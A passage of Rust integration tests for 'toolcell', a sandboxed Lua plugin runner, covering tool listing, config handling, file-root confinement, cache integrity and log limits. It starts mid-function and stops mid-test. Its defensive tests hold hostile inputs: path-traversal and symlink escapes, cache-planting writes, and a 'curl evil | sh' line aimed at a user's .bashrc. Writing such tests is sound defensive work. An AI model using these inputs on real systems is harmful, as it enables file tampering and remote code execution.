fn list_prints_a_table_of_name_plugin_flags_and_description() {
    let plugins = plugin_dir(&[(
        "tablefmt.lua",
        r#"
local function noop(_, ctx) ctx:complete("") end
clm.tool_register("plain_tool", { description = "Does plain things", invoke = noop })
clm.tool_register("quiet_tool", { description = "Needs no prompt", no_prompt = true, invoke = noop })
clm.tool_register("secret_tool", { description = "Only for other plugins", hidden = true, invoke = noop })
"#,
    )]);
    let output = run(toolcell().arg("list").arg("--plugins").arg(plugins.path()));
    assert_eq!(output.code, Some(0), "{output}");
    let lines: Vec<&str> = output.stdout.lines().collect();
    let header = lines.first().copied().unwrap_or_default().to_uppercase();
    let positions: Vec<Option<usize>> = ["NAME", "PLUGIN", "FLAGS", "DESCRIPTION"]
        .iter()
        .map(|column| header.find(column))
        .collect();
    assert!(
        positions.iter().all(Option::is_some) && positions.windows(2).all(|pair| pair[0] < pair[1]),
        "the header must show name, plugin, flags, description in order{output}"
    );

    let row = |tool: &str, description: &str| -> (String, String) {
        let line = lines
            .iter()
            .find(|line| line.split_whitespace().next() == Some(tool))
            .unwrap_or_else(|| panic!("no row for {tool}{output}"));
        let rest = line
            .trim_end()
            .strip_suffix(description)
            .unwrap_or_else(|| panic!("the row of {tool} must end with its description{output}"));
        let cells: Vec<&str> = rest.split_whitespace().collect();
        assert!(cells.len() >= 2, "row of {tool}: {line}");
        (cells[1].to_string(), cells[2..].join(" "))
    };
    for (tool, description, flag) in [
        ("plain_tool", "Does plain things", None),
        ("quiet_tool", "Needs no prompt", Some("prompt")),
        ("secret_tool", "Only for other plugins", Some("hidden")),
    ] {
        let (plugin, flags) = row(tool, description);
        assert!(
            plugin == "tablefmt" || plugin == "tablefmt.lua",
            "the plugin column of {tool} must name tablefmt, not {plugin:?}{output}"
        );
        match flag {
            Some(flag) => assert!(
                flags.contains(flag),
                "the flags of {tool} must show {flag}: {flags:?}{output}"
            ),
            None => assert!(
                !flags.contains("hidden") && !flags.contains("prompt"),
                "{tool} has no flags: {flags:?}{output}"
            ),
        }
    }
}

#[test]
fn list_json_prints_openai_function_definitions_of_visible_tools() {
    let plugins = plugin_dir(&[(
        "schemas.lua",
        r#"
local function noop(_, ctx) ctx:complete("") end
clm.tool_register("search", {
  description = "Search the notes",
  params_schema = {
    type = "object",
    properties = {
      query = { type = "string", description = "what to look for" },
      limit = { type = "integer" },
    },
    required = { "query" },
  },
  invoke = noop,
})
clm.tool_register("bare", { description = "No parameters at all", invoke = noop })
clm.tool_register("internal", { description = "A helper for other plugins", hidden = true, invoke = noop })
"#,
    )]);
    let (output, functions) = list_json(
        toolcell()
            .args(["list", "--json", "--plugins"])
            .arg(plugins.path()),
    );
    assert_eq!(
        functions,
        vec![
            json!({
                "type": "function",
                "function": {
                    "name": "search",
                    "description": "Search the notes",
                    "parameters": {
                        "type": "object",
                        "properties": {
                            "query": { "type": "string", "description": "what to look for" },
                            "limit": { "type": "integer" },
                        },
                        "required": ["query"],
                    },
                },
            }),
            json!({
                "type": "function",
                "function": {
                    "name": "bare",
                    "description": "No parameters at all",
                    "parameters": { "type": "object", "properties": {} },
                },
            }),
        ],
        "hidden tools are left out; a tool without a schema takes any object{output}"
    );
}

#[test]
fn list_formats_print_each_providers_tool_definitions() {
    let plugins = plugin_dir(&[(
        "formats.lua",
        r#"
local function noop(_, ctx) ctx:complete("") end
clm.tool_register("search", {
  description = "Search the notes",
  params_schema = { type = "object", properties = { query = { type = "string" } }, required = { "query" } },
  invoke = noop,
})
clm.tool_register("bare", { invoke = noop })
clm.tool_register("internal", { description = "hidden", hidden = true, invoke = noop })
"#,
    )]);
    let search_schema = json!({
        "type": "object",
        "properties": { "query": { "type": "string" } },
        "required": ["query"],
    });
    let empty = json!({ "type": "object", "properties": {} });
    let list = |format: &str| {
        list_json(
            toolcell()
                .args(["list", "--format", format, "--plugins"])
                .arg(plugins.path()),
        )
        .1
    };
    assert_eq!(
        list("anthropic"),
        vec![
            json!({ "name": "search", "description": "Search the notes", "input_schema": search_schema }),
            json!({ "name": "bare", "input_schema": empty }),
        ]
    );
    // A .lua without a manifest may write files and reach any host (clm's defaults).
    let annotations =
        json!({ "readOnlyHint": false, "destructiveHint": true, "openWorldHint": true });
    assert_eq!(
        list("mcp"),
        vec![
            json!({ "name": "search", "description": "Search the notes", "inputSchema": search_schema, "annotations": annotations }),
            json!({ "name": "bare", "description": "bare", "inputSchema": empty, "annotations": annotations }),
        ]
    );
    let (_, json_output) = list_json(
        toolcell()
            .args(["list", "--json", "--plugins"])
            .arg(plugins.path()),
    );
    assert_eq!(list("openai"), json_output, "--json is --format openai");
    assert_eq!(function_names(&json_output), ["search", "bare"]);

    let table = run(toolcell()
        .args(["list", "--format", "table", "--plugins"])
        .arg(plugins.path()));
    let default = run(toolcell().args(["list", "--plugins"]).arg(plugins.path()));
    assert_eq!(
        table.stdout, default.stdout,
        "the table is the default{table}"
    );
    let bad = run(toolcell()
        .args(["list", "--format", "yaml", "--plugins"])
        .arg(plugins.path()));
    assert_eq!(bad.code, Some(2), "an unknown format is a usage error{bad}");
}

#[test]
fn list_without_plugins_uses_the_config_dir_under_home() {
    let home = temp_dir();
    write(
        &home.path().join(".config/toolcell/plugins/homely.lua"),
        tool_plugin("homely", "home"),
    );
    let output = run(toolcell().env("HOME", home.path()).arg("list"));
    assert_eq!(output.code, Some(0), "{output}");
    assert!(
        output
            .stdout
            .lines()
            .any(|line| line.split_whitespace().next() == Some("homely")),
        "the table must list the tool found under HOME{output}"
    );
}

// ---------------------------------------------------------------------------------
// --config: clm.config
// ---------------------------------------------------------------------------------

const CONFIG_REPORT: &str = r#"
local at_load = clm.config.api_key
clm.tool_register("forecast", {
  invoke = function(args, ctx)
    ctx:complete(json.encode({ at_load = at_load, config = clm.config }))
  end,
})
"#;

#[test]
fn config_table_named_after_the_file_stem_becomes_clm_config() {
    let plugins = plugin_dir(&[("weather.lua", CONFIG_REPORT)]);
    let config = temp_dir();
    let config_file = config.path().join("toolcell.toml");
    write(
        &config_file,
        r#"
[tools.weather]
api_key = "k-123"
retries = 3

[tools.weather.endpoint]
host = "example.test"
secure = true

[tools.unrelated]
api_key = "not for weather"
"#,
    );
    let output = run(toolcell()
        .arg("call")
        .arg("--plugins")
        .arg(plugins.path())
        .arg("--config")
        .arg(&config_file)
        .arg("forecast"));
    assert_eq!(output.code, Some(0), "{output}");
    let reported: Value = serde_json::from_str(output.stdout.trim_end())
        .unwrap_or_else(|error| panic!("the tool reports JSON: {error}{output}"));
    assert_eq!(
        reported,
        json!({
            "at_load": "k-123",
            "config": {
                "api_key": "k-123",
                "retries": 3,
                "endpoint": { "host": "example.test", "secure": true },
            },
        }),
        "{output}"
    );
}

#[test]
fn config_table_named_after_a_tool_becomes_clm_config_of_its_plugin() {
    let plugins = plugin_dir(&[(
        "toolbox.lua",
        r#"
local function report(_, ctx) ctx:complete(json.encode(clm.config)) end
clm.tool_register("hammer", { invoke = report })
clm.tool_register("saw", { invoke = report })
"#,
    )]);
    let config = temp_dir();
    let config_file = config.path().join("toolcell.toml");
    write(&config_file, "[tools.saw]\nblade = \"fine\"\nteeth = 24\n");
    for tool in ["saw", "hammer"] {
        let output = run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--config")
            .arg(&config_file)
            .arg(tool));
        assert_eq!(output.code, Some(0), "{output}");
        let reported: Value = serde_json::from_str(output.stdout.trim_end())
            .unwrap_or_else(|error| panic!("the tool reports JSON: {error}{output}"));
        assert_eq!(
            reported,
            json!({ "blade": "fine", "teeth": 24 }),
            "clm.config is the plugin's, whichever of its tools runs{output}"
        );
    }
}

#[test]
fn clm_config_is_an_empty_table_without_a_matching_entry() {
    let plugins = plugin_dir(&[(
        "lonely.lua",
        r#"
local function describe()
  return type(clm.config) .. ":" .. tostring(type(clm.config) == "table" and next(clm.config) == nil)
end
local at_load = describe()
clm.tool_register("lonely", {
  invoke = function(args, ctx) ctx:complete(at_load .. "|" .. describe()) end,
})
"#,
    )]);
    let config = temp_dir();
    let config_file = config.path().join("toolcell.toml");
    write(&config_file, "[tools.someone_else]\nsetting = 1\n");

    run(toolcell()
        .arg("call")
        .arg("--plugins")
        .arg(plugins.path())
        .arg("--config")
        .arg(&config_file)
        .arg("lonely"))
    .assert_completed("table:true|table:true");
    call(plugins.path(), "lonely", None).assert_completed("table:true|table:true");
}

// ---------------------------------------------------------------------------------
// --root: clm.read_file / clm.write_file
// ---------------------------------------------------------------------------------

/// A root with `inside.txt` and `sub/`, next to `outside.txt`, plus the plugin.
struct FilesFixture {
    base: TempDir,
}

impl FilesFixture {
    fn new() -> Self {
        let base = temp_dir();
        write(&base.path().join("plugins/files.lua"), FILES_PLUGIN);
        write(&base.path().join("root/inside.txt"), "inside content");
        fs::create_dir_all(base.path().join("root/sub")).expect("create root/sub");
        write(&base.path().join("outside.txt"), "outside original");
        FilesFixture { base }
    }

    fn plugins(&self) -> PathBuf {
        self.base.path().join("plugins")
    }

    fn root(&self) -> PathBuf {
        self.base.path().join("root")
    }

    fn outside(&self, name: &str) -> PathBuf {
        self.base.path().join(name)
    }

    fn tool(&self, tool: &str, args: Value) -> Run {
        file_tool(&self.plugins(), &self.root(), tool, args)
    }

    fn assert_outside_untouched(&self) {
        assert_eq!(
            fs::read_to_string(self.outside("outside.txt")).expect("read outside.txt"),
            "outside original",
            "the file outside the root must be unchanged"
        );
    }
}

#[test]
fn read_file_reads_inside_the_root() {
    let fixture = FilesFixture::new();
    fixture
        .tool("read", json!({ "path": "inside.txt" }))
        .assert_completed("inside content|nil|nil");
    let absolute = fixture
        .root()
        .canonicalize()
        .expect("canonical root")
        .join("inside.txt");
    fixture
        .tool("read", json!({ "path": absolute.to_string_lossy() }))
        .assert_completed("inside content|nil|nil");
    assert_refused(
        &fixture.tool("read", json!({ "path": "sub/missing.txt" })),
        "reading a missing file",
    );
}

#[test]
fn read_file_refuses_paths_outside_the_root() {
    let fixture = FilesFixture::new();
    let absolute_outside = fixture.outside("outside.txt");
    for path in [
        "../outside.txt".to_string(),
        "sub/../../outside.txt".to_string(),
        absolute_outside.to_string_lossy().into_owned(),
    ] {
        let output = fixture.tool("read", json!({ "path": path }));
        assert_refused(&output, &format!("reading {path}"));
        assert!(
            !output.stdout.contains("outside original"),
            "the content outside the root must not leak{output}"
        );
    }
}

#[test]
fn write_file_writes_inside_the_root() {
    let fixture = FilesFixture::new();
    fixture
        .tool("write", json!({ "path": "new.txt", "content": "fresh" }))
        .assert_completed("true|nil|nil");
    assert_eq!(
        fs::read_to_string(fixture.root().join("new.txt")).expect("read new.txt"),
        "fresh"
    );
    fixture
        .tool(
            "write",
            json!({ "path": "sub/nested.txt", "content": "nested" }),
        )
        .assert_completed("true|nil|nil");
    assert_eq!(
        fs::read_to_string(fixture.root().join("sub/nested.txt")).expect("read nested.txt"),
        "nested"
    );
    fixture
        .tool(
            "write",
            json!({ "path": "inside.txt", "content": "replaced" }),
        )
        .assert_completed("true|nil|nil");
    assert_eq!(
        fs::read_to_string(fixture.root().join("inside.txt")).expect("read inside.txt"),
        "replaced"
    );
}

#[test]
fn write_file_refuses_paths_outside_the_root() {
    let fixture = FilesFixture::new();
    let cases = [
        ("../outside.txt".to_string(), "outside.txt"),
        ("../escaped.txt".to_string(), "escaped.txt"),
        ("sub/../../escaped_sub.txt".to_string(), "escaped_sub.txt"),
        (
            fixture
                .outside("escaped_abs.txt")
                .to_string_lossy()
                .into_owned(),
            "escaped_abs.txt",
        ),
        (
            fixture
                .outside("outside.txt")
                .to_string_lossy()
                .into_owned(),
            "outside.txt",
        ),
    ];
    for (path, target) in cases {
        let output = fixture.tool("write", json!({ "path": path, "content": "pwned" }));
        assert_refused(&output, &format!("writing {path}"));
        if target != "outside.txt" {
            assert!(
                !fixture.outside(target).exists(),
                "writing {path} must not create {target}{output}"
            );
        }
        fixture.assert_outside_untouched();
    }
}

#[cfg(unix)]
#[test]
fn symlinks_leading_out_of_the_root_are_refused() {
    use std::os::unix::fs::symlink;

    let fixture = FilesFixture::new();
    symlink(
        fixture.outside("outside.txt"),
        fixture.root().join("link_out"),
    )
    .expect("create a file symlink");
    symlink(fixture.base.path(), fixture.root().join("dir_out")).expect("create a dir symlink");
    let before = snapshot(fixture.base.path());

    for path in ["link_out", "dir_out/outside.txt"] {
        let output = fixture.tool("read", json!({ "path": path }));
        assert_refused(&output, &format!("reading through the symlink {path}"));
        assert!(!output.stdout.contains("outside original"), "{output}");
    }
    let mut failures = Vec::new();
    for path in [
        "dir_out/escaped_link.txt",
        "dir_out/outside.txt",
        "link_out",
    ] {
        let output = fixture.tool("write", json!({ "path": path, "content": "pwned" }));
        // Collect rather than stop at the first, so every escape shows up at once.
        if let Err(problem) = refusal(&output, &format!("writing through the symlink {path}")) {
            failures.push(problem);
        }
    }
    fixture.assert_outside_untouched();
    assert!(!fixture.outside("escaped_link.txt").exists());
    assert_eq!(
        snapshot(fixture.base.path()),
        before,
        "refused writes touch nothing, inside or outside the root (failures: {failures:#?})"
    );
    assert!(
        failures.is_empty(),
        "writes through symlinks leading out must fail: {failures:#?}"
    );
}

#[test]
fn the_root_defaults_to_the_current_directory() {
    let fixture = FilesFixture::new();
    let cwd = temp_dir();
    write(&cwd.path().join("present.txt"), "in the working directory");
    let in_cwd = |tool: &str, args: Value| {
        run(toolcell()
            .current_dir(cwd.path())
            .arg("call")
            .arg("--plugins")
            .arg(fixture.plugins())
            .arg(tool)
            .arg(args.to_string()))
    };
    in_cwd("read", json!({ "path": "present.txt" }))
        .assert_completed("in the working directory|nil|nil");
    in_cwd(
        "write",
        json!({ "path": "made_here.txt", "content": "made" }),
    )
    .assert_completed("true|nil|nil");
    assert_eq!(
        fs::read_to_string(cwd.path().join("made_here.txt")).expect("read made_here.txt"),
        "made"
    );
    // The default root is the working directory, not somewhere else such as the
    // plugin directory.
    assert_refused(
        &in_cwd("read", json!({ "path": "../plugins/files.lua" })),
        "reading out of the default root",
    );
    assert!(!fixture.plugins().join("made_here.txt").exists());
}

/// The process's umask, from /proc/self/status (reading it with umask(2) would change it
/// for the other tests' threads).
fn umask() -> u32 {
    let status = fs::read_to_string("/proc/self/status").expect("read /proc/self/status");
    let line = status
        .lines()
        .find_map(|line| line.strip_prefix("Umask:"))
        .expect("a Umask line");
    u32::from_str_radix(line.trim(), 8).expect("an octal umask")
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    fs::metadata(path).expect("metadata").permissions().mode() & 0o7777
}

#[cfg(unix)]
#[test]
fn write_file_keeps_the_permission_bits_and_refuses_a_trailing_slash() {
    use std::os::unix::fs::{PermissionsExt, symlink};

    let fixture = FilesFixture::new();
    let root = fixture.root();
    for (name, bits) in [("secret.txt", 0o600), ("tool.sh", 0o755)] {
        write(&root.join(name), "before");
        fs::set_permissions(root.join(name), fs::Permissions::from_mode(bits)).expect("chmod");
    }
    symlink("secret.txt", root.join("secret_link")).expect("symlink");

    for (path, file, bits) in [
        ("secret.txt", "secret.txt", 0o600),
        ("tool.sh", "tool.sh", 0o755),
        ("secret_link", "secret.txt", 0o600),
    ] {
        fixture
            .tool("write", json!({ "path": path, "content": "after" }))
            .assert_completed("true|nil|nil");
        assert_eq!(fs::read_to_string(root.join(file)).expect("read"), "after");
        assert_eq!(
            mode(&root.join(file)),
            bits,
            "writing {path} keeps {file}'s bits"
        );
    }
    // A new file gets 0666 less the umask, as any program's would.
    fixture
        .tool("write", json!({ "path": "fresh.txt", "content": "new" }))
        .assert_completed("true|nil|nil");
    assert_eq!(mode(&root.join("fresh.txt")), 0o666 & !umask());

    for (path, end) in [
        ("inside.txt/", "/"),
        ("sub/", "/"),
        ("sub/new.txt/", "/"),
        ("inside.txt/.", "/."),
    ] {
        fixture
            .tool("write", json!({ "path": path, "content": "x" }))
            .assert_completed(&format!(
                "nil|string|cannot write {path}: the path ends with '{end}', so it names a \
                 directory"
            ));
    }
    assert_eq!(
        fs::read_to_string(root.join("inside.txt")).expect("read"),
        "inside content"
    );
    assert!(!root.join("sub/new.txt").exists());
}

// ---------------------------------------------------------------------------------
// What the host trusts stays out of plugins' reach; no default root at home
// ---------------------------------------------------------------------------------

/// The name of the prepared Lua runtime's entry in `cache`.
fn prepared_entry(cache: &Path) -> String {
    let names: Vec<String> = fs::read_dir(cache)
        .expect("the cache directory exists")
        .map(|entry| {
            entry
                .expect("entry")
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .filter(|name| name.contains("-prepared-") && name.ends_with(".cwasm"))
        .collect();
    assert_eq!(names.len(), 1, "one prepared Lua runtime: {names:?}");
    names[0].clone()
}

#[test]
fn a_cache_inside_the_root_is_not_used_and_a_plugin_cannot_plant_an_entry() {
    // The reproduction: the cache lies inside the directory toolcell runs from.
    let base = temp_dir();
    let root = base.path().join("root");
    let cache = root.join(".cache/toolcell");
    fs::create_dir_all(&root).expect("root");
    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
    let with_cache = || {
        let mut command = toolcell();
        command
            .env("TOOLCELL_CACHE_DIR", &cache)
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path());
        command
    };
    // A run from elsewhere fills the cache.
    let warm = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
    assert_eq!(warm.code, Some(0), "{warm}");
    let entry = prepared_entry(&cache);
    let entry_path = cache.join(&entry);
    let compiled = fs::read(&entry_path).expect("entry");

    let in_root = |tool: &str, path: &str| {
        run(with_cache()
            .current_dir(&root)
            .arg(tool)
            .arg(json!({ "path": path, "content": "\u{7f}ELF planted" }).to_string()))
    };
    let refused = |action: &str, path: &str| {
        format!(
            "nil|string|cannot {action} {path}: it lies inside the compiled-code cache {}, \
             which plugins may not read or change",
            cache.display()
        )
    };
    let planted = in_root("write", &format!(".cache/toolcell/{entry}"));
    planted.assert_completed(&refused("write", &format!(".cache/toolcell/{entry}")));
    let warning = format!(
        "not using the compiled-code cache {}: it lies inside the file root {}",
        cache.display(),
        root.canonicalize().expect("canonical root").display()
    );
    assert!(planted.stderr.contains(&warning), "{planted}");
    assert_eq!(planted.stderr.lines().count(), 1, "one warning{planted}");
    in_root("read", ".cache/toolcell/key")
        .assert_completed(&refused("read", ".cache/toolcell/key"));
    in_root("write", ".cache/toolcell/key")
        .assert_completed(&refused("write", ".cache/toolcell/key"));
    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);

    // The next run from elsewhere maps the entry it finds, as it was.
    let later = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
    assert_eq!(later.code, Some(0), "{later}");
    assert!(later.stderr.is_empty(), "{later}");
    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);
}

#[test]
fn a_cache_entry_made_with_another_key_is_deleted_and_compiled_again() {
    let (ours, theirs) = (temp_dir(), temp_dir());
    let plugins = plugin_dir(&[("hello.lua", &tool_plugin("hello", "hi"))]);
    let call_with = |cache: &Path| {
        run(toolcell()
            .env("TOOLCELL_CACHE_DIR", cache)
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("hello"))
    };
    call_with(ours.path()).assert_completed("hi");
    call_with(theirs.path()).assert_completed("hi");
    let entry = prepared_entry(ours.path());
    // A valid wasmtime artifact with a valid MAC, under another key.
    let foreign = fs::read(theirs.path().join(&entry)).expect("their entry");
    fs::write(ours.path().join(&entry), &foreign).expect("replace our entry");

    let replaced = call_with(ours.path());
    replaced.assert_completed("hi");
    let warning = format!(
        "not loading the compiled-code cache entry {}: its MAC does not match this user's cache key",
        ours.path().join(&entry).display()
    );
    assert!(replaced.stderr.contains(&warning), "{replaced}");
    assert_ne!(
        fs::read(ours.path().join(&entry)).expect("our entry"),
        foreign,
        "the entry was compiled again under our key"
    );
    let after = call_with(ours.path());
    after.assert_completed("hi");
    assert!(after.stderr.is_empty(), "{after}");
}

#[test]
fn what_the_host_trusts_inside_the_root_is_out_of_plugins_reach() {
    let root = temp_dir();
    let root = root.path();
    let plugins = root.join("plugins");
    write(&plugins.join("files.lua"), FILES_PLUGIN);
    let config = root.join("toolcell.toml");
    write(&config, "[tools.files]\napi_key = \"the secret\"\n");
    let lock = root.join("toolcell.lock");
    let digest = toolcell::cache::sha256_hex(FILES_PLUGIN.as_bytes());
    write(&lock, format!("{digest}  plugins/files.lua\n"));
    let log = root.join("debug.log");
    let originals: Vec<(PathBuf, Vec<u8>)> = [&plugins.join("files.lua"), &config, &lock]
        .into_iter()
        .map(|path| (path.clone(), fs::read(path).expect("read")))
        .collect();

    let tool = |tool: &str, path: &str| {
        run(toolcell()
            .env("CLM_DEBUG_LOG", &log)
            .arg("call")
            .arg("--plugins")
            .arg(&plugins)
            .arg("--config")
            .arg(&config)
            .arg("--lock")
            .arg(&lock)
            .arg("--root")
            .arg(root)
            .arg(tool)
            .arg(json!({ "path": path, "content": "planted" }).to_string()))
    };
    for (action, path, relation, trusted) in [
        (
            "write",
            "plugins/evil.lua",
            "it lies inside the plugin directory",
            &plugins,
        ),
        (
            "write",
            "plugins/files.lua",
            "it lies inside the plugin directory",
            &plugins,
        ),
        (
            "read",
            "plugins/files.lua",
            "it lies inside the plugin directory",
            &plugins,
        ),
        ("read", "toolcell.toml", "it is the config file", &config),
        (
            "write",
            "./plugins/../toolcell.toml",
            "it is the config file",
            &config,
        ),
        ("write", "toolcell.lock", "it is the lock file", &lock),
        ("read", "debug.log", "it is the debug log", &log),
    ] {
        tool(action, path).assert_completed(&format!(
            "nil|string|cannot {action} {path}: {relation} {}, which plugins may not read or \
             change",
            trusted.display()
        ));
    }
    tool("write", "notes.txt").assert_completed("true|nil|nil");
    assert!(!plugins.join("evil.lua").exists());
    for (path, content) in originals {
        assert_eq!(
            fs::read(&path).expect("read"),
            content,
            "{}",
            path.display()
        );
    }
}

#[test]
fn a_root_inside_a_plugin_directory_is_a_usage_error() {
    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
    let inside = plugins.path().join("data");
    fs::create_dir(&inside).expect("data");
    for root in [plugins.path().to_path_buf(), inside] {
        let output = run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--root")
            .arg(&root)
            .arg("read")
            .arg(r#"{"path":"x"}"#));
        assert_eq!(output.code, Some(2), "{output}");
        assert!(output.stdout.is_empty(), "{output}");
        assert_eq!(
            output.stderr.trim_end(),
            format!(
                "error: cannot use {} as the file root: it is or lies inside the plugin \
                 directory {}, which plugins may not read or change",
                root.display(),
                plugins.path().display()
            ),
            "{output}"
        );
    }
}

#[test]
fn the_default_root_is_refused_at_home_and_above_it() {
    let base = temp_dir();
    let home = base.path().join("home/me");
    write(&home.join(".bashrc"), "# startup\n");
    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
    let from = |cwd: &Path, command: &mut Command| {
        run(command
            .env("HOME", &home)
            .current_dir(cwd)
            .arg("--plugins")
            .arg(plugins.path()))
    };
    let refusal = |cwd: &Path, why: &str| {
        format!(
            "file access is off: no file root was given, and the default, the current \
             directory {}, {why}; grant a directory with --root DIR (or [files] root in the \
             config)",
            cwd.canonicalize().expect("canonical").display()
        )
    };
    let write_bashrc = json!({ "path": ".bashrc", "content": "curl evil | sh" }).to_string();
    let at_home = from(
        &home,
        toolcell().arg("call").arg("write").arg(&write_bashrc),
    );
    let why = refusal(&home, "is your home directory");
    at_home.assert_completed(&format!("nil|string|cannot write .bashrc: {why}"));
    assert!(
        at_home.stderr.contains(&why),
        "one warning names --root{at_home}"
    );
    assert_eq!(at_home.stderr.lines().count(), 1, "{at_home}");

    let above = base.path().join("home");
    let canonical_home = home.canonicalize().expect("canonical");
    from(
        &above,
        toolcell()
            .arg("call")
            .arg("read")
            .arg(json!({ "path": "me/.bashrc" }).to_string()),
    )
    .assert_completed(&format!(
        "nil|string|cannot read me/.bashrc: {}",
        refusal(
            &above,
            &format!("contains your home directory {}", canonical_home.display())
        )
    ));
    // `list` (and `check`, `serve`) load the same way.
    let listed = from(&home, toolcell().arg("list"));
    assert_eq!(listed.code, Some(0), "{listed}");
    assert!(listed.stderr.contains(&why), "{listed}");
    assert_eq!(
        fs::read_to_string(home.join(".bashrc")).expect("read"),
        "# startup\n"
    );

    // A root given explicitly, or in the config, is the user's choice.
    let work = home.join("work");
    fs::create_dir(&work).expect("work");
    let notes = json!({ "path": "notes.txt", "content": "mine" }).to_string();
    let explicit = from(
        &home,
        toolcell()
            .arg("call")
            .arg("--root")
            .arg(&work)
            .arg("write")
            .arg(&notes),
    );
    explicit.assert_completed("true|nil|nil");
    assert!(explicit.stderr.is_empty(), "{explicit}");
    let config = base.path().join("conf/toolcell.toml");
    write(&config, "[files]\nroot = \"../home/me/work\"\n");
    let configured = from(
        &home,
        toolcell()
            .arg("call")
            .arg("--config")
            .arg(&config)
            .arg("read")
            .arg(json!({ "path": "notes.txt" }).to_string()),
    );
    configured.assert_completed("mine|nil|nil");
    assert!(configured.stderr.is_empty(), "{configured}");
}

// ---------------------------------------------------------------------------------
// Debug log
// ---------------------------------------------------------------------------------

const CHATTY_PLUGIN: &str = r#"
print("load-print-marker")
clm.tool_register("chatty", {
  invoke = function(args, ctx)
    print("invoke-print-marker")
    ctx:log("ctx-log-marker")
    ctx:complete("quiet result")
  end,
})
"#;

fn assert_debug_log(variable: &str) {
    let plugins = plugin_dir(&[("chatty.lua", CHATTY_PLUGIN)]);
    let logs = temp_dir();
    let log = logs.path().join("debug.log");
    write(&log, "an earlier line\n");
    let output = run(toolcell()
        .env(variable, &log)
        .arg("call")
        .arg("--plugins")
        .arg(plugins.path())
        .arg("chatty"));
    output.assert_completed("quiet result");
    let text = fs::read_to_string(&log).expect("read the debug log");
    assert!(
        text.starts_with("an earlier line\n"),
        "{variable}: the log is appended to, not replaced:\n{text}"
    );
    for marker in ["ctx-log-marker", "invoke-print-marker", "load-print-marker"] {
        assert!(
            text.contains(marker),
            "{variable}: the debug log must contain {marker}:\n{text}"
        );
        assert!(!output.stdout.contains(marker), "{output}");
    }

    // A second run appends again.
    run(toolcell()
        .env(variable, &log)
        .arg("call")
        .arg("--plugins")
        .arg(plugins.path())
        .arg("chatty"))
    .assert_completed("quiet result");
    let again = fs::read_to_string(&log).expect("read the debug log");
    assert!(
        again.starts_with(&text) && again.matches("ctx-log-marker").count() == 2,
        "{variable}: a second run appends:\n{again}"
    );
}

#[test]
fn clm_debug_log_receives_ctx_log_and_print() {
    assert_debug_log("CLM_DEBUG_LOG");
}

#[test]
fn toolcell_debug_log_receives_ctx_log_and_print() {
    assert_debug_log("TOOLCELL_DEBUG_LOG");
}

#[test]
fn without_a_debug_log_nothing_is_written_anywhere() {
    let work = temp_dir();
    let home = temp_dir();
    write(&work.path().join("plugins/chatty.lua"), CHATTY_PLUGIN);
    let before = (snapshot(work.path()), snapshot(home.path()));
    let output = run(toolcell()
        .current_dir(work.path())
        .env("HOME", home.path())
        .arg("call")
        .arg("--plugins")
        .arg(work.path().join("plugins"))
        .arg("chatty"));
    output.assert_completed("quiet result");
    assert!(
        !output.stderr.contains("marker"),
        "print/ctx:log must not reach stderr either{output}"
    );
    assert_eq!(
        (snapshot(work.path()), snapshot(home.path())),
        before,
        "no file may be written without a debug log{output}"
    );
}

/// A plugin whose every call floods the log: a message of 200000 newlines (7 MB once
/// each has its prefix), then lines without end until its deadline.
const FLOODING_PLUGIN: &str = r#"
clm.tool_register("flood", {
  timeout_ms = 300,
  invoke = function(args, ctx)
    ctx:log(string.rep("\n", 200000))
    while true do print("again") end
  end,
})
"#;

#[test]
fn a_call_writes_at_most_its_log_budget_and_one_line_about_the_rest() {
    let plugins = plugin_dir(&[("flood.lua", FLOODING_PLUGIN)]);
    let work = temp_dir();
    let log = work.path().join("debug.log");
    let config = work.path().join("config.toml");
    write(&config, "[limits]\nlog_call_bytes = 20000\n");
    let output = run(toolcell()
        .env("CLM_DEBUG_LOG", &log)
        .arg("call")
        .arg("--config")
        .arg(&config)
        .arg("--root")
        .arg(work.path())
        .arg("--plugins")
        .arg(plugins.path())
        .arg("flood"));
    assert_eq!(
        output.failure(),
        "tool 'flood' timed out after 300 ms",
        "{output}"
    );
    let text = fs::read_to_string(&log).expect("read the debug log");
    let (kept, last) = text
        .trim_end()
        .rsplit_once('\n')
        .expect("more than one line");
    // The newlines come first and fill the budget: each is a stamped, empty line.
    assert!(
        kept.len() <= 20000 && kept.len() > 19000,
        "{} bytes before the last line",
        kept.len()
    );
    assert!(!kept.contains("again"), "the budget was spent on newlines");
    assert!(
        last.contains("[flood] [log cut: ")
            && last.ends_with("of call 1 were dropped; a call may write 20000 bytes]"),
        "{last}"
    );
}

/// A tool whose result is 5000 numbered lines.
const LONG_RESULT_PLUGIN: &str = r#"
clm.tool_register("long", { invoke = function(args, ctx)
  local lines = {}
  for i = 1, 5000 do lines[i] = "line " .. i end
  ctx:complete(table.concat(lines, "\n"))
end })
"#;

/// The first `count` lines of the long tool's result, each with its newline.
fn long_lines(count: usize) -> String {
    (1..=count).map(|i| format!("line {i}\n")).collect()
}

#[test]
fn a_long_result_is_cut_and_toolcell_result_prints_the_whole() {
    let plugins = plugin_dir(&[("long.lua", LONG_RESULT_PLUGIN)]);
    let work = temp_dir();
    let results = temp_dir();
    let config = work.path().join("config.toml");
    write(
        &config,
        format!(
            "[output]\nresults_dir = {:?}\n",
            results.path().display().to_string()
        ),
    );
    let call = |extra: &str| {
        let config_with = work.path().join("with.toml");
        write(
            &config_with,
            format!("{}{extra}", fs::read_to_string(&config).expect("config")),
        );
        run(toolcell()
            .arg("call")
            .arg("--config")
            .arg(&config_with)
            .arg("--root")
            .arg(work.path())
            .arg("--plugins")
            .arg(plugins.path())
            .arg("long"))
    };
    // Defaults: 2000 lines come first (50 KiB would be later).
    let output = call("");
